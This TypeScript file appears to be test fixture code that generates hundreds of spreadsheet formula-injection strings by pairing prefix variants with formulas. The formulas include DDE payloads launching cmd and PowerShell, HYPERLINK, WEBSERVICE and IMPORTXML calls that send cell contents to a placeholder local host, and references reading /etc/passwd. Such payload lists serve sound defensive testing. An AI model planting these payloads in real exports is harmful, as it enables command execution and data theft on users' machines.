/** Prefixes of a formula that a spreadsheet program may ignore. */
const starts =
  '=~+~-~@~＝~＋~－~＠~ =~  +~\t=~\r=~\n=~\r\n@~\u00a0=~\ufeff=~\u200b=~\u2028=~\v=~"=~""=~\'=~;=~,=~=-~=+~==~@=~+=~-=~\\=~|=~%='.split(
    '~',
  )

const formulas = [
  '1+1',
  'SUM(1;2)',
  'SUM(A1:A9)',
  'A1',
  'NOW()',
  "2+5+cmd|'/C calc'!A0",
  "cmd|'/C powershell IEX(1)'!A0",
  'HYPERLINK("http://127.0.0.1:9/?x="&A1;"click")',
  'HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")',
  'WEBSERVICE("http://127.0.0.1:9/")',
  'IMPORTXML("http://127.0.0.1:9/","//a")',
  'DDE("soffice";"/etc/passwd";"A1")',
  "'file:///etc/passwd'#$passwd.A1",
  'IF(TRUE();"a";"b")',
  'ROW()*2',
  'EXACT("a";"a")',
  '1',
]

/** Five hundred and more texts that try to become a formula in a cell. */
export const formulaPayloads: readonly string[] = [
  ...new Set(starts.flatMap((start) => formulas.map((formula) => `${start}${formula}`))),
]
